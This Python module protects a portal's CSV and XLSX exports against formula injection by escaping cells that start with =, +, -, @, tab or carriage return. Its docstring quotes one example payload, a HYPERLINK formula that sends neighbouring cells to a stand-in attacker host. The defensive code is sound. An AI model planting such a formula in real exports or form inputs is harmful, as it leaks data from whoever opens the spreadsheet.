"""Spreadsheet exports that never run what someone typed into a form (CSV/formula injection).

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return before them) as a formula: an anonymous applicant named
``=HYPERLINK("http://evil.example/?x="&A2;"…")`` would otherwise leak the neighbouring cells
when the QM team opens the export. Every CSV and XLSX export of the portal writes its cells
through this module: such text is kept as text (OWASP's advice: a leading apostrophe in CSV,
a string cell marked "quote prefix" in XLSX). Numbers, dates and booleans stay what they are.
"""

import csv
import datetime
import io
from collections.abc import Iterable
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import Cell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_TYPES = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def is_formula_like(value) -> bool:
    """True for text that a spreadsheet program would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_cell(value) -> str:
    """One CSV cell as text: empty for ``None``; formula-like text gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, PLAIN_TYPES) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return f"'{text}" if is_formula_like(text) else text


def csv_writer(stream, **kwargs):
    """A ``csv.writer`` (semicolons by default, as German spreadsheet programs expect) whose
    ``writerow`` passes every cell through :func:`csv_cell`."""
    return SafeCSVWriter(stream, **kwargs)


class SafeCSVWriter:
    def __init__(self, stream, delimiter: str = ";", **kwargs):
        self._writer = csv.writer(stream, delimiter=delimiter, **kwargs)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """Rows as semicolon-separated UTF-8 with a BOM (so spreadsheet programs open it as is)."""
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_cell(sheet, value) -> Cell:
    """An XLSX cell for ``sheet``: formula-like text is stored as a string with Excel's quote
    prefix (openpyxl would otherwise store ``=…`` as a formula); other values as they are."""
    if value is not None and not isinstance(value, (*PLAIN_TYPES, bool, str)):
        value = str(value)
    cell = Cell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_bytes(rows: Iterable[Iterable], *, title: str = "") -> bytes:
    """Rows as an XLSX workbook with one sheet (``title`` is cut to Excel's 31 characters)."""
    workbook = Workbook()
    sheet = workbook.active
    if title:
        sheet.title = title[:31]
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
